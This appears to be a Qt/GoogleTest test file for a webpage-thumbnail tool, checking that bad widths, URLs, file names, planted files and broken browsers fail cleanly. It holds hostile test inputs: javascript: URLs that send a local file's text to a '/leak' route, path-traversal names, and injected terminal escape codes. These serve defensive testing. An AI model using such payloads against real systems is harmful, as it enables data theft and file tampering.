// Bad input of every kind the user can give, in the window and in bildoro-batch: width texts, folders, list
// files, picture names the file system refuses, URLs that are not URLs, and a browser that cannot be found or
// does not start. Each gives a clear message or a failed row with its reason; never a crash or a hang, never
// a leftover browser or ".$$$" file.
#include "Unit1.h"
#include "batch_process.h"
#include "fake_dialogs.h"
#include "jpeg_image.h"
#include "leftover_check.h"
#include "local_http_server.h"
#include "picture_samples.h"
#include "test_pages.h"
#include "test_support.h"

#include <sys/stat.h>
#include <unistd.h>
#include <QLineEdit>
#include <QProcess>
#include <QPushButton>
#include <QRegularExpression>
#include <QTest>
#include <QUrl>

namespace {

using namespace leftovers;

[[maybe_unused]] ::testing::Environment* const g_tmpEnv =
    ::testing::AddGlobalTestEnvironment(new PrivateTmpEnvironment);

QStringList TemporaryFiles(const QString& folder) {
    return QDir(folder).entryList({QStringLiteral("*.$$$")}, QDir::Files | QDir::Hidden);
}

// A picture name of 300 bytes: longer than any file name may be (ENAMETOOLONG).
const QString kLongName = QString(300, u'n');

// URLs that are not URLs, or name nothing that answers.
const QStringList kBadUrls = {QString(), QStringLiteral("nonsense"), QStringLiteral("javascript:alert(1)"),
                              QStringLiteral("file:///nonexistent"), QStringLiteral("http://127.0.0.1:1/")};

// Stand-ins for a browser that cannot run, each made in `dir`: the value for BILDORO_CHROMIUM and what the
// message must name.
struct BrokenBrowser {
    const char* what;
    QString executable;
    QString mentions;
};

QList<BrokenBrowser> BrokenBrowsers(const QString& dir) {
    const auto rw = QFileDevice::ReadOwner | QFileDevice::WriteOwner;
    const QString quits = WriteShellScript(dir + QStringLiteral("/quits"), "exit 0");
    const QString fails = WriteShellScript(dir + QStringLiteral("/fails"), "echo broken >&2; exit 7");
    const QString plain = WriteShellScript(dir + QStringLiteral("/plain"), "exec chromium \"$@\"", false);
    const QString garbage = dir + QStringLiteral("/garbage");
    {
        QFile f(garbage);
        EXPECT_TRUE(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        f.write(QByteArray("\x7f\x01\x02 no program", 14));
        f.close();
        f.setPermissions(rw | QFileDevice::ExeOwner);
    }
    return {
        {"a program that fails at once", QStringLiteral("/bin/false"), QStringLiteral("Chromium")},
        {"a script that quits at once", quits, QStringLiteral("Chromium")},
        {"a script that fails at once", fails, QStringLiteral("Chromium")},
        {"a file that is not executable", plain, plain},
        {"an executable file that is no program", garbage, garbage},
        {"a path that does not exist", dir + QStringLiteral("/none/chromium"),
         dir + QStringLiteral("/none/chromium")},
        {"a folder", dir, dir},
    };
}

// Sets BILDORO_CHROMIUM for the lifetime of the object.
class ChromiumVariable {
  public:
    explicit ChromiumVariable(const QString& value) : m_old(qgetenv("BILDORO_CHROMIUM")) {
        qputenv("BILDORO_CHROMIUM", QFile::encodeName(value));
    }
    ~ChromiumVariable() {
        if (m_old.isNull())
            qunsetenv("BILDORO_CHROMIUM");
        else
            qputenv("BILDORO_CHROMIUM", m_old);
    }

  private:
    QByteArray m_old;
};

// ------------------------------------------------------------------------------------------------------------
// The window

class BadInputWindow : public ::testing::Test {
  protected:
    void SetUp() override {
        server.AddRoute(QStringLiteral("/red"), ColourPage("#ff0000"));
        server.AddRoute(QStringLiteral("/blue"), ColourPage("#0000ff"));
        ASSERT_TRUE(out.isValid());
        form = std::make_unique<TForm1>(&dialogs);
        form->show();
        form->SetPageTimeoutMs(5000);
        form->sDirectoryEdit1->setText(out.path());
    }
    void TearDown() override {
        form.reset();
        const QString left = WaitUntilNothingLeft(10000);
        EXPECT_TRUE(left.isEmpty()) << qPrintable(left);
    }

    // Runs the list; returns the completion message (the only message the run may show).
    QString Run() {
        dialogs.notices.clear();
        dialogs.errors.clear();
        QTest::mouseClick(form->sBitBtn3, Qt::LeftButton);
        EXPECT_FALSE(form->IsRunning());
        EXPECT_TRUE(dialogs.errors.isEmpty()) << qPrintable(dialogs.errors.join(u'\n'));
        EXPECT_EQ(dialogs.notices.size(), 1) << qPrintable(dialogs.notices.join(u'\n'));
        EXPECT_EQ(TemporaryFiles(out.path()), QStringList());
        return dialogs.notices.value(0);
    }

    // The reason the message gives for a row's URL, or a null text when it is not listed.
    static QString ReasonFor(const QString& message, const QString& url) {
        const QString key = u'\n' + url + QStringLiteral(" – ");
        const qsizetype at = message.indexOf(key);
        if (at < 0) return {};
        const qsizetype from = at + key.size();
        const qsizetype end = message.indexOf(u'\n', from);
        return message.mid(from, end < 0 ? -1 : end - from);
    }

    QString Out(const QString& picture) const { return out.path() + u'/' + picture + QStringLiteral(".jpg"); }

    LocalHttpServer server;
    QTemporaryDir out;
    TFakeDialogs dialogs;
    std::unique_ptr<TForm1> form;
};

TEST_F(BadInputWindow, WidthTextsFailTheRowWithTheReasonOrGiveTheirSize) {
    struct Case {
        const char* width;
        QSize size;          // of the picture afterwards; invalid: none written
        const char* reason;  // of the failed row; empty: the row succeeds
    };
    const Case cases[] = {
        {"", QSize(1024, 768), "'' ist kein gültiger Integerwert"},
        {"abc", QSize(1024, 768), "'abc' ist kein gültiger Integerwert"},
        {"99999999999", QSize(1024, 768), "'99999999999' ist kein gültiger Integerwert"},
        {"0", QSize(1024, 768), "at least 1"},
        {"-5", QSize(1024, 768), "at least 1"},
        {"1", QSize(1, 1), ""},
        {" 200", QSize(200, 150), ""},
        {"5000", QSize(1024, 768), ""},
    };
    form->AppendRow(server.Url(QStringLiteral("/red")), QStringLiteral("w"));
    for (const Case& c : cases) {
        SCOPED_TRACE(c.width);
        QFile::remove(Out(QStringLiteral("w")));
        form->edbreit->setText(QString::fromLatin1(c.width));
        const QString message = Run();
        EXPECT_EQ(DecodedSize(Out(QStringLiteral("w"))), c.size);
        if (*c.reason) {
            EXPECT_TRUE(
                ReasonFor(message, server.Url(QStringLiteral("/red"))).contains(QString::fromUtf8(c.reason)))
                << qPrintable(message);
        } else {
            EXPECT_EQ(message, QStringLiteral("Verarbeitung abgeschlossen"));
        }
    }
}

TEST_F(BadInputWindow, PictureNamesTheFileSystemRefusesFailWithTheirReason) {
    struct Case {
        QString picture;
        QString why;    // in the reason; empty: the row succeeds
        QString names;  // what the reason names; empty: the picture's path
    };
    const QList<Case> cases = {
        // The system's reasons in the window's language.
        {QStringLiteral("fehlt/unter/bild"),
         QStringLiteral("Die Datei oder das Verzeichnis konnte nicht gefunden werden")},
        {kLongName, QStringLiteral("Dateiname zu lang")},
        {QString(), QString()},  // a name made from the address
        {QStringLiteral("Grüße & ; Leerzeichen"), QString()},
        // Names that would lead out of the output folder write nothing anywhere.
        {QStringLiteral("../draussen"), QStringLiteral("aus dem Ausgabeordner hinaus"),
         QStringLiteral("../draussen")},
        {out.path() + QStringLiteral("/absolut"), QStringLiteral("beginnt mit"), QStringLiteral("/absolut")},
        {QStringLiteral("steuer\x1bzeichen"), QStringLiteral("Steuerzeichen (\\x1b)"),
         QStringLiteral("Bildname")},
    };
    // Each row loads its own page, so the message tells the rows apart by URL.
    for (int i = 0; i < cases.size(); ++i)
        form->AppendRow(server.Url(QStringLiteral("/red?%1").arg(i)), cases[i].picture);
    const QString message = Run();
    for (int i = 0; i < cases.size(); ++i) {
        SCOPED_TRACE(cases[i].picture.left(40).toStdString());
        const QString reason = ReasonFor(message, server.Url(QStringLiteral("/red?%1").arg(i)));
        if (cases[i].why.isEmpty()) {
            EXPECT_TRUE(reason.isNull()) << qPrintable(message);
            const QString written = !cases[i].picture.isEmpty()
                                        ? cases[i].picture
                                        : QStringLiteral("127.0.0.1-%1_red").arg(QUrl(server.Url({})).port());
            EXPECT_EQ(DecodedSize(Out(written)), QSize(320, 240));
        } else {
            EXPECT_TRUE(reason.contains(cases[i].names.isEmpty() ? Out(cases[i].picture) : cases[i].names))
                << "names the file: " << qPrintable(reason);
            EXPECT_TRUE(reason.contains(cases[i].why)) << "says why: " << qPrintable(reason);
        }
    }
    EXPECT_FALSE(QFileInfo::exists(out.path() + QStringLiteral("/fehlt")));
    EXPECT_FALSE(QFileInfo::exists(out.path() + QStringLiteral("/../draussen.jpg")));
    EXPECT_FALSE(QFileInfo::exists(out.path() + QStringLiteral("/absolut.jpg")));
    EXPECT_EQ(QDir(out.path()).entryList({QStringLiteral("steuer*")}, QDir::Files), QStringList());
    // An empty folder text starts no run: it would put the pictures into the file system's root.
    form->sDirectoryEdit1->clear();
    dialogs.notices.clear();
    QTest::mouseClick(form->sBitBtn3, Qt::LeftButton);
    EXPECT_EQ(dialogs.notices, QStringList{QStringLiteral("Kein Speicherort angegeben")});
}

TEST_F(BadInputWindow, UrlsThatAreNotUrlsEndTheirRowsAndTheRunGoesOn) {
    for (int i = 0; i < kBadUrls.size(); ++i) form->AppendRow(kBadUrls[i], QStringLiteral("u%1").arg(i));
    form->AppendRow(server.Url(QStringLiteral("/blue")), QStringLiteral("good"));
    const QString message = Run();
    for (int i = 0; i < kBadUrls.size(); ++i) {
        SCOPED_TRACE(kBadUrls[i].toStdString());
        const QString reason = ReasonFor(message, kBadUrls[i]);
        // Either the view showed something (an error page) that became the picture, or the row failed with
        // why.
        if (reason.isNull())
            EXPECT_EQ(DecodedSize(Out(QStringLiteral("u%1").arg(i))), QSize(320, 240));
        else
            EXPECT_FALSE(reason.trimmed().isEmpty());
    }
    EXPECT_EQ(DecodedSize(Out(QStringLiteral("good"))), QSize(320, 240)) << qPrintable(message);
}

TEST_F(BadInputWindow, BrowserThatCannotStartFailsEveryRowWithTheReason) {
    form->AppendRow(server.Url(QStringLiteral("/red")), QStringLiteral("a"));
    form->AppendRow(server.Url(QStringLiteral("/blue")), QStringLiteral("b"));
    QTemporaryDir stand;
    for (const BrokenBrowser& b : BrokenBrowsers(stand.path())) {
        SCOPED_TRACE(b.what);
        ChromiumVariable variable(b.executable);
        const QString message = Run();
        EXPECT_TRUE(message.startsWith(
            QStringLiteral("Verarbeitung abgeschlossen\n\n2 von 2 Einträgen fehlgeschlagen:")))
            << qPrintable(message);
        for (const char* path : {"/red", "/blue"}) {
            const QString reason = ReasonFor(message, server.Url(QString::fromLatin1(path)));
            EXPECT_TRUE(reason.contains(b.mentions)) << qPrintable(message);
        }
        EXPECT_TRUE(QDir(out.path()).entryList(QDir::Files | QDir::Hidden).isEmpty());
        const QString left = WaitUntilNothingLeft(10000);
        EXPECT_TRUE(left.isEmpty()) << qPrintable(left);
    }
    // With the browser back, the same window runs the list.
    EXPECT_EQ(Run(), QStringLiteral("Verarbeitung abgeschlossen"));
    EXPECT_EQ(DecodedSize(Out(QStringLiteral("b"))), QSize(320, 240));
}

// ------------------------------------------------------------------------------------------------------------
// bildoro-batch

class BadInputCli : public ::testing::Test {
  protected:
    void SetUp() override {
        server.AddRoute(QStringLiteral("/red"), ColourPage("#ff0000"));
        server.AddRoute(QStringLiteral("/blue"), ColourPage("#0000ff"));
        ASSERT_TRUE(dir.isValid());
        folder = dir.path() + QStringLiteral("/out");
    }
    void TearDown() override {
        const QString left = WaitUntilNothingLeft(10000);
        EXPECT_TRUE(left.isEmpty()) << qPrintable(left);
    }

    QString WriteList(const QList<QPair<QString, QString>>& rows) {
        const QString list = dir.path() + QStringLiteral("/list.csv");
        QFile f(list);
        EXPECT_TRUE(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        for (const auto& [url, picture] : rows)
            f.write((url + u';' + picture + QStringLiteral("\r\n")).toUtf8());
        return list;
    }
    QString Out(const QString& picture) const { return folder + u'/' + picture + QStringLiteral(".jpg"); }

    LocalHttpServer server;
    QTemporaryDir dir;
    QString folder;
};

TEST_F(BadInputCli, WidthTextsFailTheRowWithTheReasonOrGiveTheirSize) {
    struct Case {
        const char* width;
        QSize size;
        const char* failure;  // in the result line; empty: ok
    };
    // A width that gives no thumbnail is wrong usage, found before any page loads.
    const Case cases[] = {
        {"", QSize(), "--width: '' is not a valid integer"},
        {"abc", QSize(), "--width: 'abc' is not a valid integer"},
        {"99999999999", QSize(), "is not a valid integer"},
        {"0", QSize(), "--width needs at least 1 pixel, not 0"},
        {"-5", QSize(), "--width needs at least 1 pixel, not -5"},
        {"1", QSize(1, 1), ""},
        {"5000", QSize(1024, 768), ""},
    };
    const QString list = WriteList({{server.Url(QStringLiteral("/red")), QStringLiteral("w")}});
    for (const Case& c : cases) {
        SCOPED_TRACE(c.width);
        QFile::remove(Out(QStringLiteral("w")));
        const qsizetype requests = server.Requests().size();
        const BatchProcess r = RunBatchProcess(
            {list, QStringLiteral("-o"), folder, QStringLiteral("--width"), QString::fromLatin1(c.width)});
        EXPECT_FALSE(r.crashed);
        EXPECT_EQ(r.exitCode, *c.failure ? 2 : 0) << qPrintable(r.out + r.err);
        if (*c.failure) {
            EXPECT_TRUE(r.err.contains(QString::fromUtf8(c.failure))) << qPrintable(r.err);
            EXPECT_EQ(server.Requests().size(), requests) << "no page loaded";
        } else {
            EXPECT_TRUE(r.LineFor(QStringLiteral("w")).startsWith(QStringLiteral("ok: ")))
                << qPrintable(r.out);
        }
        EXPECT_EQ(DecodedSize(Out(QStringLiteral("w"))), c.size);
    }
}

TEST_F(BadInputCli, PictureNamesTheFileSystemRefusesFailWithTheirReason) {
    const QString list =
        WriteList({{server.Url(QStringLiteral("/red")), QStringLiteral("fehlt/unter/bild")},
                   {server.Url(QStringLiteral("/red")), kLongName},
                   {server.Url(QStringLiteral("/blue")), QString()},
                   {server.Url(QStringLiteral("/blue")), QStringLiteral("Grüße & Leerzeichen")},
                   {server.Url(QStringLiteral("/blue")), QStringLiteral("../draussen")},
                   {server.Url(QStringLiteral("/blue")), QStringLiteral("a/../../draussen")},
                   {server.Url(QStringLiteral("/blue")), dir.path() + QStringLiteral("/absolut")},
                   {server.Url(QStringLiteral("/blue?\x1b[31m")), QStringLiteral("Bild\x1b[2J\x07")}});
    const BatchProcess r =
        RunBatchProcess({list, QStringLiteral("-o"), folder, QStringLiteral("--jobs"), QStringLiteral("2")});
    EXPECT_FALSE(r.crashed);
    EXPECT_EQ(r.exitCode, 1);
    EXPECT_TRUE(r.out.contains(QStringLiteral("8 rows: 2 ok, 6 failed"))) << qPrintable(r.out + r.err);
    for (const QString& name : {QStringLiteral("../draussen"), QStringLiteral("a/../../draussen")})
        EXPECT_TRUE(r.LineFor(name).contains(QStringLiteral("leads out of the output folder (check)")))
            << qPrintable(r.out);
    EXPECT_FALSE(QFileInfo::exists(dir.path() + QStringLiteral("/draussen.jpg")));
    EXPECT_FALSE(QFileInfo::exists(dir.path() + QStringLiteral("/absolut.jpg")));
    // Control characters reach the terminal escaped; a picture name with them writes nothing.
    const QString control = r.LineFor(QStringLiteral("Bild\\x1b[2J\\x07"));
    EXPECT_TRUE(control.contains(QStringLiteral("/blue?\\x1b[31m -> ")) &&
                control.contains(QStringLiteral("control characters")))
        << qPrintable(r.out);
    EXPECT_FALSE(r.out.contains(QChar(0x1b)) || r.out.contains(QChar(0x07)));
    EXPECT_FALSE(QFileInfo::exists(Out(QStringLiteral("Bild\x1b[2J\x07"))));
    const QString missing = r.LineFor(QStringLiteral("fehlt/unter/bild"));
    EXPECT_TRUE(missing.startsWith(QStringLiteral("failed: ")) &&
                missing.contains(QStringLiteral("No such file or directory")))
        << qPrintable(missing);
    const QString tooLong = r.LineFor(kLongName);
    EXPECT_TRUE(tooLong.startsWith(QStringLiteral("failed: ")) &&
                tooLong.contains(QStringLiteral("File name too long")))
        << qPrintable(tooLong);
    const QString made = QStringLiteral("127.0.0.1-%1_blue").arg(QUrl(server.Url({})).port());
    EXPECT_TRUE(r.LineFor(made).startsWith(QStringLiteral("ok: "))) << qPrintable(r.out);
    EXPECT_EQ(DecodedSize(Out(made)), QSize(320, 240)) << "an empty name is made from the address";
    EXPECT_EQ(DecodedSize(Out(QStringLiteral("Grüße & Leerzeichen"))), QSize(320, 240));
    EXPECT_EQ(TemporaryFiles(folder), QStringList());
}

TEST_F(BadInputCli, UrlsThatAreNotUrlsEndTheirRowsAndTheRunGoesOn) {
    QList<QPair<QString, QString>> rows;
    // A list that would send a local file away: the file's page, then scripts meant to run in it.
    WriteBytes(dir.path() + QStringLiteral("/secret.txt"), "geheim");
    const QString leak = server.Url(QStringLiteral("/leak?"));
    rows.append({QUrl::fromLocalFile(dir.path() + QStringLiteral("/secret.txt")).toString(),
                 QStringLiteral("secret")});
    for (const QString& scheme :
         {QStringLiteral("javascript:"), QStringLiteral(" JavaScript:"), QStringLiteral("java\tscript:")})
        rows.append({scheme + QStringLiteral("void(new Image().src='%1'+document.body.innerText)").arg(leak),
                     QStringLiteral("leak")});
    for (const char* refused :
         {"chrome://version", "view-source:http://127.0.0.1/", "devtools://devtools/", "blob:http://x/1"})
        rows.append({QString::fromLatin1(refused), QStringLiteral("refused")});
    for (int i = 0; i < kBadUrls.size(); ++i) rows.append({kBadUrls[i], QStringLiteral("u%1").arg(i)});
    rows.append({server.Url(QStringLiteral("/blue")), QStringLiteral("good")});
    const BatchProcess r = RunBatchProcess(
        {WriteList(rows), QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QStringLiteral("5")});
    EXPECT_FALSE(r.crashed);
    for (const LocalHttpServer::Request& request : server.Requests())
        EXPECT_FALSE(request.path.startsWith("/leak"))
            << "a local file reached a server: " << request.path.constData();
    // The three scripts, the four browser addresses, and of the bad addresses the empty one, "nonsense" and
    // "javascript:alert(1)".
    EXPECT_EQ(r.out.count(QStringLiteral("is not loaded")), 10) << qPrintable(r.out);
    for (int i = 0; i < kBadUrls.size(); ++i) {
        const QString line = r.LineFor(QStringLiteral("u%1").arg(i));
        SCOPED_TRACE(line.toStdString());
        if (line.startsWith(QStringLiteral("ok: ")))
            EXPECT_EQ(DecodedSize(Out(QStringLiteral("u%1").arg(i))), QSize(320, 240));
        else
            EXPECT_TRUE(QRegularExpression(QStringLiteral("^failed: .* -> .*: .+ \\(\\w+\\)$"))
                            .match(line)
                            .hasMatch());
    }
    EXPECT_TRUE(r.LineFor(QStringLiteral("good")).startsWith(QStringLiteral("ok: "))) << qPrintable(r.out);
    EXPECT_EQ(TemporaryFiles(folder), QStringList());
}

TEST_F(BadInputCli, BrowserThatCannotStartGivesAClearMessage) {
    const QString list = WriteList({{server.Url(QStringLiteral("/red")), QStringLiteral("a")},
                                    {server.Url(QStringLiteral("/blue")), QStringLiteral("b")}});
    QTemporaryDir stand;
    for (const BrokenBrowser& b : BrokenBrowsers(stand.path())) {
        SCOPED_TRACE(b.what);
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("BILDORO_CHROMIUM"), b.executable);
        const BatchProcess r = RunBatchProcess(
            {list, QStringLiteral("-o"), folder, QStringLiteral("--jobs"), QStringLiteral("2")}, env);
        EXPECT_FALSE(r.crashed);
        // Either refused before any row (on standard error, status 3), or every row failed saying why.
        if (r.out.contains(QStringLiteral("2 rows: ")) || r.out.contains(QStringLiteral("failed: "))) {
            EXPECT_EQ(r.exitCode, 1);
            EXPECT_TRUE(r.out.contains(QStringLiteral("2 rows: 0 ok, 2 failed"))) << qPrintable(r.out);
            for (const char* picture : {"a", "b"})
                EXPECT_TRUE(r.LineFor(QString::fromLatin1(picture)).contains(b.mentions))
                    << qPrintable(r.out);
        } else {
            EXPECT_EQ(r.exitCode, 3);
            EXPECT_TRUE(r.err.contains(b.mentions)) << qPrintable(r.err);
        }
        EXPECT_FALSE(QFileInfo::exists(Out(QStringLiteral("a"))));
        const QString left = WaitUntilNothingLeft(10000);
        EXPECT_TRUE(left.isEmpty()) << qPrintable(left);
    }
}

// What others may plant in the output folder: each row's picture replaces it or fails with a reason; nothing
// outside the folder is created, changed or deleted, no FIFO is waited on, and --shrink reads regular files
// only.
TEST_F(BadInputCli, PlantedFilesAreReplacedNeverFollowed) {
    ASSERT_TRUE(QDir().mkpath(folder));
    const QString outside = dir.path() + QStringLiteral("/outside");
    ASSERT_TRUE(QDir().mkpath(outside));
    WriteBytes(outside + QStringLiteral("/secret.txt"), "geheim");
    ASSERT_EQ(::symlink(qPrintable(outside + QStringLiteral("/secret.txt")),
                        qPrintable(Out(QStringLiteral("link")))),
              0);
    // A FIFO, a socket and (as root) a device at a picture's name are refused and stay what they are.
    const QList<SpecialFile> specials =
        MakeSpecialFiles(folder, QStringLiteral("spezial"), QStringLiteral(".jpg"));
    ASSERT_TRUE(QDir().mkpath(Out(QStringLiteral("ordner"))));
    ASSERT_EQ(::symlink(qPrintable(outside), qPrintable(folder + QStringLiteral("/sub"))), 0);
    WriteBytes(folder + QStringLiteral("/alt.$$$"), "nicht von uns");
    struct Case {
        QString picture;
        QString failure;  // in the row's line; empty: ok, a thumbnail in place of what was there
    };
    QList<Case> cases = {
        {QStringLiteral("link"), {}},
        {QStringLiteral("ordner"), QStringLiteral("Is a directory")},
        {QStringLiteral("sub/x"), QStringLiteral("through a symbolic link")},
        {QStringLiteral("alt"), {}},
    };
    for (const SpecialFile& special : specials)
        cases.append({QFileInfo(special.path).completeBaseName(), QStringLiteral("not a regular file")});
    QList<QPair<QString, QString>> rows;
    for (const Case& c : cases) rows.append({server.Url(QStringLiteral("/red")), c.picture});
    const BatchProcess r = RunBatchProcess({WriteList(rows), QStringLiteral("-o"), folder},
                                           QProcessEnvironment::systemEnvironment(), {}, 120000);
    for (const Case& c : cases) {
        const QString line = r.LineFor(c.picture);
        if (c.failure.isEmpty()) {
            EXPECT_TRUE(line.startsWith(QStringLiteral("ok: "))) << qPrintable(line);
            EXPECT_TRUE(QFileInfo(Out(c.picture)).isFile() && !QFileInfo(Out(c.picture)).isSymLink())
                << qPrintable(c.picture);
            EXPECT_EQ(DecodedSize(Out(c.picture)), QSize(320, 240)) << qPrintable(c.picture);
        } else {
            EXPECT_TRUE(line.startsWith(QStringLiteral("failed: ")) && line.contains(c.failure))
                << qPrintable(line);
        }
    }
    for (const SpecialFile& special : specials)
        EXPECT_TRUE(IsStillSpecial(special)) << qPrintable(special.kind);
    EXPECT_EQ(ReadBytes(outside + QStringLiteral("/secret.txt")), "geheim");
    EXPECT_EQ(QDir(outside).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("secret.txt")});
    EXPECT_EQ(ReadBytes(folder + QStringLiteral("/alt.$$$")), "nicht von uns")
        << "a .$$$ the run did not make stays";
    // --shrink: a FIFO and a link to an endless device fail at once with a reason.
    ASSERT_EQ(::mkfifo(qPrintable(dir.path() + QStringLiteral("/p.jpg")), 0600), 0);
    ASSERT_EQ(::symlink("/dev/zero", qPrintable(dir.path() + QStringLiteral("/z.jpg"))), 0);
    const BatchProcess shrink =
        RunBatchProcess({QStringLiteral("--shrink"), QStringLiteral("100"),
                         dir.path() + QStringLiteral("/p.jpg"), dir.path() + QStringLiteral("/z.jpg")},
                        QProcessEnvironment::systemEnvironment(), {}, 20000);
    EXPECT_EQ(shrink.exitCode, 1);
    EXPECT_EQ(shrink.out.count(QStringLiteral("failed: ")), 2) << qPrintable(shrink.out);
    EXPECT_TRUE(shrink.out.contains(QStringLiteral("not a regular file"))) << qPrintable(shrink.out);
    // A link the user names stands for its file: the file is reduced, the link stays; a dry run changes
    // nothing.
    const QString target = outside + QStringLiteral("/gross.jpg");
    const QString named = dir.path() + QStringLiteral("/verweis.jpg");
    WriteJpeg(target, 640, 480);
    ASSERT_EQ(::symlink(qPrintable(target), qPrintable(named)), 0);
    const QByteArray before = ReadBytes(target);
    for (const bool dry : {true, false}) {
        QStringList args{QStringLiteral("--shrink"), QStringLiteral("100"), named};
        if (dry) args.prepend(QStringLiteral("--dry-run"));
        const BatchProcess r = RunBatchProcess(args);
        EXPECT_EQ(r.exitCode, 0) << qPrintable(r.out + r.err);
        EXPECT_TRUE(r.out.contains(dry ? QStringLiteral("would be reduced to 100 x 75")
                                       : QStringLiteral("reduced to 100 x 75")))
            << qPrintable(r.out);
        EXPECT_TRUE(QFileInfo(named).isSymLink());
        EXPECT_EQ(DecodedSize(target), dry ? QSize(640, 480) : QSize(100, 75));
        if (dry) {
            EXPECT_EQ(ReadBytes(target), before);
        }
    }
}

TEST_F(BadInputCli, ListsAndFoldersThatCannotBeUsedAreRefusedBeforeAnyBrowser) {
    const QString list = WriteList({{server.Url(QStringLiteral("/red")), QStringLiteral("a")}});
    const QString garbage = dir.path() + QStringLiteral("/garbage.csv");
    {
        QFile f(garbage);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write(QByteArray("\0\0\xff\xfe", 4));  // the text ends at the first NUL: no rows
    }
    struct Case {
        QStringList args;
        int exitCode;
        QString message;
    };
    QList<Case> cases = {
        {{dir.path(), QStringLiteral("-o"), folder}, 3, QStringLiteral("cannot be opened")},
        {{garbage, QStringLiteral("-o"), folder}, 3, QStringLiteral("the list has no rows")},
        {{list, QStringLiteral("-o"), QString()}, 3, QStringLiteral("No output folder given")},
        {{list, QStringLiteral("-o"), list + QStringLiteral("/sub")}, 3, QStringLiteral("cannot be made")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QStringLiteral("0")},
         2,
         QStringLiteral("--timeout")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QStringLiteral("soon")},
         2,
         QStringLiteral("--timeout")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--jobs"), QStringLiteral("33")},
         2,
         QStringLiteral("--jobs")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--per-host"), QStringLiteral("-1")},
         2,
         QStringLiteral("--per-host")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--memory-limit"), QStringLiteral("12")},
         2,
         QStringLiteral("--memory-limit")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--width"), QStringLiteral("abc")},
         2,
         QStringLiteral("--width")},
        {{list, QStringLiteral("-o"), folder, QStringLiteral("--dry-run"), QStringLiteral("--width"),
          QStringLiteral("0")},
         2,
         QStringLiteral("--width")},

        {{list, list, QStringLiteral("-o"), folder}, 2, QStringLiteral("exactly one list file")},
    };
    for (const char* timeout : {"0", "soon", "nan", "inf", "-inf", "1e308"})
        cases.append(
            {{list, QStringLiteral("-o"), folder, QStringLiteral("--timeout"), QString::fromLatin1(timeout)},
             2,
             QStringLiteral("--timeout")});
    // A report or failed list that is a FIFO, a socket or a device is refused and stays what it was.
    const QList<SpecialFile> specials = MakeSpecialFiles(dir.path(), QStringLiteral("ziel"));
    for (const SpecialFile& special : specials)
        for (const QString& option : {QStringLiteral("--report"), QStringLiteral("--failed-list")})
            cases.append({{list, QStringLiteral("-o"), folder, option, special.path},
                          3,
                          QStringLiteral("not a regular file")});
    // A folder that cannot be written (root writes anywhere: only a normal user can be refused).
    const QString locked = dir.path() + QStringLiteral("/gesperrt");
    ASSERT_TRUE(QDir().mkpath(locked));
    ASSERT_EQ(::chmod(qPrintable(locked), 0555), 0);
    if (::geteuid() != 0) {
        cases.append({{list, QStringLiteral("-o"), locked},
                      3,
                      QStringLiteral("cannot be written: Permission denied")});
        cases.append({{list, QStringLiteral("-o"), locked + QStringLiteral("/neu/tief")},
                      3,
                      QStringLiteral("cannot be made in")});
    }
    for (const Case& c : cases) {
        SCOPED_TRACE(c.args.join(u' ').toStdString());
        const BatchProcess r = RunBatchProcess(c.args);
        EXPECT_FALSE(r.crashed);
        EXPECT_EQ(r.exitCode, c.exitCode) << qPrintable(r.err);
        EXPECT_TRUE(r.err.contains(c.message)) << qPrintable(r.err);
        EXPECT_TRUE(r.out.isEmpty()) << qPrintable(r.out);
        EXPECT_FALSE(QFileInfo::exists(folder)) << "the output folder of a run that cannot start";
    }
    for (const SpecialFile& special : specials)
        EXPECT_TRUE(IsStillSpecial(special)) << qPrintable(special.kind);
    // A list on standard input holding only NUL bytes and line breaks has no rows either.
    const BatchProcess stdinList =
        RunBatchProcess({QStringLiteral("-"), QStringLiteral("-o"), folder},
                        QProcessEnvironment::systemEnvironment(), QByteArray("\0\r\n", 3));
    EXPECT_EQ(stdinList.exitCode, 3);
    EXPECT_TRUE(stdinList.err.contains(QStringLiteral("the list has no rows"))) << qPrintable(stdinList.err);
}

}  // namespace
